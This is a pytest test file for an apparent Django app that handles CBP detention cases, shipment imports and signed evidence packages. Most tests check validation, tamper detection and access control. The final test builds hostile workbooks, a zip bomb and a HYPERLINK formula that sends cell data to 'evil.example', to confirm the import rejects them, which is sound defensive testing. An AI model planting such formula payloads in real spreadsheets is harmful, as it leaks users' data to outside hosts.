"""Shipments, detention cases and evidence packages through their pages, over HTTP with
CSRF enforced: the demo case with its package (the ZIP verifies; one byte changed in an
exhibit or in the PDF is caught and named), a case opened and filed from scratch with a
Chinese worksite name printed in the PDF, deadlines set by hand with a reason, the
workflow refusing a step CBP's process does not have, the shipments import refusing a
bad file whole, the calendar feed, reminders once per offset, the pre-arrival check and
the allegation draft, and another organization's case a 404."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pypdf
import pytest
from django.utils import timezone

from chainproof.audit.models import AuditEvent
from chainproof.cases.demo import demo_case_load
from chainproof.cases.models import (
    CalendarFeed,
    DetentionCase,
    EvidencePackage,
    ReminderSent,
    Shipment,
    SigningCertificate,
)
from chainproof.cases.reminders import deadline_reminders_send
from chainproof.diligence.demo import demo_evidence_load
from chainproof.evidence.models import Document
from chainproof.fileformats.package_zip import package_verify
from chainproof.fileformats.pdf_signing import signing_identity_generate
from chainproof.outbox.models import OutboundEmail
from tests.csrf_client import CsrfClient
from tests.supply import load_demo


def _demo(alice, settings, tmp_path, *, package: bool):
    settings.MEDIA_ROOT = tmp_path / "files"
    settings.STORAGE_BACKEND = "local"
    load_demo(alice.organization)
    demo_evidence_load(organization=alice.organization, actor=alice.user)
    case = demo_case_load(organization=alice.organization, actor=alice.user, package=package)
    assert case is not None
    return alice


@pytest.fixture
def demo(alice, refdata, settings, tmp_path):
    """The demo organization with its case, without a package (most tests need none)."""
    return _demo(alice, settings, tmp_path, package=False)


@pytest.fixture
def demo_filed(alice, refdata, settings, tmp_path):
    """The demo organization with its case and its first package, as `chainproof start`."""
    return _demo(alice, settings, tmp_path, package=True)


def _zip_bytes(csrf_client, case, version) -> bytes:
    response = csrf_client.get(f"/cases/{case.pk}/packages/{version}.zip")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    return b"".join(response.streaming_content)


def _rewrite(data: bytes, name: str, change) -> bytes:
    """The same ZIP with one entry's bytes changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            body = source.read(info.filename)
            target.writestr(info, change(body) if info.filename == name else body)
    return out.getvalue()


def test_the_demo_case_lists_its_deadlines_and_its_signed_package_verifies(
    csrf_client, demo_filed, tmp_path
):
    demo = demo_filed
    csrf_client.sign_in(demo)
    overview = csrf_client.get("/cases/").content.decode()
    assert "Case 1" in overview
    assert "Entry CPF-2026114-1" in overview
    case = DetentionCase.objects.get(organization=demo.organization, number=1)
    page = csrf_client.get(f"/cases/{case.pk}/").content.decode()
    # Notice 9 days ago, UFLPA: 30 days from the notice, 21 left.
    notice = timezone.localtime(case.notice_at).date()
    assert "Response to CBP&#x27;s UFLPA detention notice" in page
    assert (notice + dt.timedelta(days=30)).strftime("%a %-d %b %Y") in page
    assert "19 CFR 151.16" in page

    package = EvidencePackage.objects.get(case=case, version=1)
    data = _zip_bytes(csrf_client, case, 1)
    path = tmp_path / "package.zip"
    path.write_bytes(data)
    report = package_verify(path)
    assert report.ok, report.problems
    assert report.files_checked == package.exhibit_count + 1
    assert report.signature is not None
    assert report.signature.intact

    pdf = pypdf.PdfReader(io.BytesIO(csrf_client.get(f"/cases/{case.pk}/packages/1.pdf").content))
    assert len(pdf.pages) == package.pdf_pages >= 5
    outline = [item.title for item in pdf.outline if not isinstance(item, list)]
    assert "1. Executive summary" in outline
    assert "6. Exhibit index" in outline
    text = "".join(p.extract_text() for p in pdf.pages)
    first_exhibit = next(f for f in package.manifest["files"] if f["exhibit"] == "1")
    assert first_exhibit["sha256"] in text.replace("\n", "")


def test_one_changed_byte_in_an_exhibit_or_in_the_pdf_is_named(csrf_client, demo_filed, tmp_path):
    demo = demo_filed
    csrf_client.sign_in(demo)
    case = DetentionCase.objects.get(organization=demo.organization, number=1)
    data = _zip_bytes(csrf_client, case, 1)
    exhibit = EvidencePackage.objects.get(case=case).manifest["files"][2]["path"]

    def flip(body: bytes) -> bytes:
        return body[:10] + bytes([body[10] ^ 1]) + body[11:]

    altered = tmp_path / "altered.zip"
    altered.write_bytes(_rewrite(data, exhibit, flip))
    report = package_verify(altered)
    assert not report.ok
    assert any(exhibit in problem for problem in report.problems), report.problems

    def flip_pdf(body: bytes) -> bytes:
        at = len(body) // 3
        return body[:at] + bytes([body[at] ^ 1]) + body[at + 1 :]

    forged = tmp_path / "forged.zip"
    forged.write_bytes(_rewrite(data, "package.pdf", flip_pdf))
    report = package_verify(forged)
    assert not report.ok
    assert report.signature is not None
    assert not report.signature.intact


def test_a_case_opened_from_a_shipment_files_a_package_with_chinese_names(
    csrf_client, demo, tmp_path
):
    csrf_client.sign_in(demo)
    made = csrf_client.submit(
        "/cases/shipments/",
        {
            "action": "create",
            "reference": "PO-TEE-77",
            "entry_number": "b76 0324527 8",
            "port_code": "2704",
            "importation_date": "2026-01-31",
            "arrival_date": "2026-01-30",
        },
    )
    assert made.status_code == 302, made.content.decode()[:2000]
    shipment = Shipment.objects.get(organization=demo.organization, reference="PO-TEE-77")
    assert shipment.entry_number == "B76-0324527-8"
    line = csrf_client.submit(
        f"/cases/shipments/{shipment.pk}/",
        {
            "action": "add_line",
            "product_sku": "app-tee-001",
            "quantity": "12000",
            "unit": "pcs",
            "facility_ref": "F-BD-01",
            "origin_country": "BD",
        },
    )
    assert line.status_code == 302
    assert shipment.lines.get().hts_code == "6109.10.00.12"  # from the product
    opened = csrf_client.submit(
        f"/cases/shipments/{shipment.pk}/",
        {"action": "open_case", "basis": "wro", "notice_at": "2026-02-10", "cbp_reference": "W-1"},
    )
    assert opened.status_code == 302
    case = DetentionCase.objects.get(shipment=shipment)
    page = csrf_client.get(f"/cases/{case.pk}/").content.decode()
    assert "Thu 30 Apr 2026" in page  # 3 months after 31 January, clamped to 30 April
    payroll = Document.objects.get(organization=demo.organization, title__startswith="工资发放记录")
    added = csrf_client.submit(
        f"/cases/{case.pk}/", {"action": "exhibit_add", "document": f"#{payroll.pk}"}
    )
    assert added.status_code == 302
    built = csrf_client.submit(f"/cases/{case.pk}/packages/", {}, from_page=f"/cases/{case.pk}/")
    assert built.status_code == 302
    package = EvidencePackage.objects.get(case=case)
    pdf = pypdf.PdfReader(io.BytesIO(csrf_client.get(f"/cases/{case.pk}/packages/1.pdf").content))
    text = "".join(p.extract_text() for p in pdf.pages)
    joined = text.replace("\n", "")
    assert "兰溪氨纶厂" in joined  # the spandex plant in the T-shirt's chain, by its native name
    assert "工资发放记录" in joined
    assert "Meghna Knitwear" in text.replace("\n", " ")
    path = tmp_path / "p.zip"
    path.write_bytes(_zip_bytes(csrf_client, case, 1))
    assert package_verify(path).ok
    assert package.exhibit_count == 1
    filed = csrf_client.submit(
        f"/cases/{case.pk}/packages/1/filed/", {}, from_page=f"/cases/{case.pk}/"
    )
    assert filed.status_code == 302
    package.refresh_from_db()
    assert package.filed_at is not None
    assert AuditEvent.objects.filter(action="cases.package_filed").count() == 1


def test_a_bad_entry_number_and_a_bad_exhibit_say_why_and_store_nothing(csrf_client, demo):
    csrf_client.sign_in(demo)
    bad = csrf_client.submit(
        "/cases/shipments/",
        {"action": "create", "reference": "PO-BAD", "entry_number": "B76-0324527-3"},
    )
    assert bad.status_code == 400
    assert (
        "Entry number: expected the check digit 8 at the end (the number may be mistyped), "
        "found B76-0324527-3." in bad.content.decode()
    )
    assert not Shipment.objects.filter(reference="PO-BAD").exists()
    case = DetentionCase.objects.get(organization=demo.organization, number=1)
    before = case.exhibits.count()
    refused = csrf_client.submit(
        f"/cases/{case.pk}/", {"action": "exhibit_add", "document": "#999999"}
    )
    assert refused.status_code == 400
    assert "Document: no document 999999 in your organization" in refused.content.decode()
    assert case.exhibits.count() == before


def test_a_deadline_set_by_hand_needs_a_reason_and_is_audited(csrf_client, demo):
    csrf_client.sign_in(demo)
    case = DetentionCase.objects.get(organization=demo.organization, number=1)
    url = f"/cases/{case.pk}/"
    without = csrf_client.submit(
        url, {"action": "deadline", "rule": "uflpa_response", "due": "2027-01-20", "reason": ""}
    )
    assert without.status_code == 400
    assert "Reason: expected the reason for the new date" in without.content.decode()
    ok = csrf_client.submit(
        url,
        {
            "action": "deadline",
            "rule": "uflpa_response",
            "due": "2027-01-20",
            "reason": "CBP's notice gives 45 days",
        },
    )
    assert ok.status_code == 302
    page = csrf_client.get(url).content.decode()
    assert "Wed 20 Jan 2027" in page
    assert "CBP&#x27;s notice gives 45 days" in page
    event = AuditEvent.objects.get(action="cases.deadline_overridden")
    assert event.after["due"] == "2027-01-20"


def test_the_workflow_refuses_a_step_the_process_does_not_have(csrf_client, demo):
    csrf_client.sign_in(demo)
    case = DetentionCase.objects.get(organization=demo.organization, number=1)
    url = f"/cases/{case.pk}/"
    refused = csrf_client.submit(url, {"action": "status", "status": "protested"})
    assert refused.status_code == 400
    assert "can become" in refused.content.decode()
    for step in ("submitted", "excluded"):
        assert csrf_client.submit(url, {"action": "status", "status": step}).status_code == 302
    case.refresh_from_db()
    assert case.status == "excluded"
    assert case.exclusion_at is not None
    page = csrf_client.get(url).content.decode()
    assert "Protest of the exclusion" in page  # 180 days from the exclusion (a UFLPA case)


def test_a_viewer_reads_but_cannot_change_and_another_organization_sees_nothing(
    demo_filed, victor, bob
):
    demo = demo_filed
    case = DetentionCase.objects.get(organization=demo.organization, number=1)
    viewer = CsrfClient()
    viewer.sign_in(victor)
    assert viewer.get(f"/cases/{case.pk}/").status_code == 200
    assert viewer.submit(f"/cases/{case.pk}/", {"action": "task", "title": "x"}).status_code == 403
    stranger = CsrfClient()
    stranger.sign_in(bob)
    assert stranger.get(f"/cases/{case.pk}/").status_code == 404
    assert viewer.get(f"/cases/{case.pk}/packages/1.zip").status_code == 200
    assert stranger.get(f"/cases/{case.pk}/packages/1.zip").status_code == 404
    assert stranger.get(f"/cases/shipments/{case.shipment_id}/check/").status_code == 404


def _shipments_csv(*rows: dict) -> bytes:
    from chainproof.domain.cases.shipment_columns import SHIPMENT_LINES

    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(SHIPMENT_LINES.column_names))
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue().encode()


def test_a_shipments_file_with_one_bad_row_is_refused_whole(csrf_client, demo):
    csrf_client.sign_in(demo)
    good = {
        "reference": "PO-1",
        "entry_number": "B76-0324527-8",
        "line": "1",
        "product_sku": "APP-TEE-001",
        "port_code": "2704",
    }
    second = {**good, "line": "2", "product_sku": "APP-SCF-010"}
    bad = {"reference": "PO-2", "line": "1", "product_sku": "NO-SUCH-SKU", "hts_code": "6109.1"}
    upload = io.BytesIO(_shipments_csv(good, second, bad))
    upload.name = "shipments.csv"
    response = csrf_client.submit("/cases/shipments/", {"action": "import", "file": upload})
    assert response.status_code == 400
    body = response.content.decode()
    assert "Nothing was imported from shipments.csv" in body
    assert "hts_code" in body
    assert "6109.1" in body  # the cell as found, with what was expected
    assert not Shipment.objects.filter(reference__in=["PO-1", "PO-2"]).exists()

    bad["hts_code"] = "6109.10"
    upload = io.BytesIO(_shipments_csv(good, second, bad))
    upload.name = "shipments.csv"
    response = csrf_client.submit("/cases/shipments/", {"action": "import", "file": upload})
    assert response.status_code == 400
    assert "the SKU of one of your products" in response.content.decode()

    bad["product_sku"] = "APP-SCF-010"
    upload = io.BytesIO(_shipments_csv(good, second, bad))
    upload.name = "shipments.csv"
    response = csrf_client.submit("/cases/shipments/", {"action": "import", "file": upload})
    assert response.status_code == 302
    assert Shipment.objects.get(reference="PO-1").lines.count() == 2
    assert Shipment.objects.get(reference="PO-2").kind == "planned"


def test_the_calendar_feed_serves_the_deadlines_until_revoked(csrf_client, demo):
    csrf_client.sign_in(demo)
    page = csrf_client.submit("/cases/calendar/", {"action": "create"})
    assert page.status_code == 200
    body = page.content.decode()
    start = body.index("/cases/calendar/", body.index("calendar-url") - 400)
    url = body[start : body.index(".ics", start) + 4]
    anonymous = CsrfClient()
    feed = anonymous.get(url)
    assert feed.status_code == 200
    assert feed["Content-Type"].startswith("text/calendar")
    text = feed.content.decode()
    assert "BEGIN:VEVENT" in text
    assert "UFLPA detention notice" in text.replace("\r\n ", "")
    feed_row = CalendarFeed.objects.get(user=demo.user)
    csrf_client.submit("/cases/calendar/", {"action": "revoke", "feed": feed_row.pk})
    assert anonymous.get(url).status_code == 404


def test_reminders_go_once_per_offset_through_the_outbox(demo):
    demo.user.email = "alice@acme.example"
    demo.user.save()
    case = DetentionCase.objects.get(organization=demo.organization, number=1)
    due = timezone.localtime(case.notice_at).date() + dt.timedelta(days=30)
    assert deadline_reminders_send(today=due - dt.timedelta(days=20)) == 0
    assert deadline_reminders_send(today=due - dt.timedelta(days=6)) >= 1
    assert deadline_reminders_send(today=due - dt.timedelta(days=5)) == 0
    mail = OutboundEmail.objects.filter(purpose="case deadline")
    assert mail.filter(to=demo.user.email).exists()
    assert ReminderSent.objects.filter(case=case, days_before=7).exists()


def test_the_pre_arrival_check_and_its_pdf(csrf_client, demo):
    csrf_client.sign_in(demo)
    planned = Shipment.objects.get(organization=demo.organization, reference="PO-9100000305")
    page = csrf_client.get(f"/cases/shipments/{planned.pk}/check/")
    assert page.status_code == 200
    assert "Merino wool scarf" in page.content.decode()
    pdf = csrf_client.get(f"/cases/shipments/{planned.pk}/check.pdf")
    assert pdf["Content-Type"] == "application/pdf"
    text = "".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf.content)).pages)
    assert "Pre-arrival check" in text
    assert "Line 1" in text


def test_an_allegation_draft_needs_the_content_the_regulation_asks_for(csrf_client, demo):
    csrf_client.sign_in(demo)
    missing = csrf_client.submit("/cases/allegation/", {"reasons": "workers' passports held"})
    assert missing.status_code == 400
    assert "Description of the goods" in missing.content.decode()
    done = csrf_client.submit(
        "/cases/allegation/",
        {"reasons": "Passports held", "goods": "Squid, HTS 0307.43", "production": "DPRK crews"},
    )
    assert done["Content-Type"] == "application/pdf"
    text = "".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(done.content)).pages)
    assert "12.42(b)" in text
    assert "DPRK crews" in text


def test_an_admin_uploads_a_signing_certificate_and_a_wrong_password_is_refused(csrf_client, demo):
    csrf_client.sign_in(demo)
    bundle = signing_identity_generate(
        common_name="Acme Imports compliance", organization="Acme Imports", password="s3cret-pass"
    )
    upload = io.BytesIO(bundle)
    upload.name = "acme.p12"
    wrong = csrf_client.submit("/cases/signing/", {"bundle": upload, "password": "nope"})
    assert wrong.status_code == 400
    assert "the password does not open this certificate bundle" in wrong.content.decode()
    upload = io.BytesIO(bundle)
    upload.name = "acme.p12"
    ok = csrf_client.submit("/cases/signing/", {"bundle": upload, "password": "s3cret-pass"})
    assert ok.status_code == 302
    active = SigningCertificate.objects.get(organization=demo.organization, active=True)
    assert "Acme Imports compliance" in active.subject
    assert not active.self_signed
    assert bytes(active.bundle) == bundle
    assert "s3cret-pass" not in active.password_sealed


def test_a_hostile_shipments_workbook_is_refused_with_a_reason(csrf_client, demo):
    from chainproof.domain.cases.shipment_columns import SHIPMENT_LINES
    from tests.hostile_files import _over_ratio
    from tests.xlsx_files import add_cell_xml, workbook_bytes

    csrf_client.sign_in(demo)
    header = list(SHIPMENT_LINES.column_names)
    row = dict.fromkeys(header, None) | {"reference": "PO-H", "line": 1, "description": "Goods"}
    clean = workbook_bytes([header, [row[name] for name in header]], title="shipments")
    formula = add_cell_xml(
        clean,
        '<row r="3"><c r="A3" t="str"><f>HYPERLINK("http://evil.example/?x="&amp;B3,"Open")</f>'
        "<v>Open</v></c></row>",
        "xl/worksheets/sheet1.xml",
    )
    for name, data in (("bomb.xlsx", _over_ratio(clean)), ("formula.xlsx", formula)):
        upload = io.BytesIO(data)
        upload.name = name
        response = csrf_client.submit("/cases/shipments/", {"action": "import", "file": upload})
        assert response.status_code == 400, name
        body = response.content.decode()
        assert f"Nothing was imported from {name}" in body
        assert "Traceback" not in body
    assert not Shipment.objects.filter(reference="PO-H").exists()
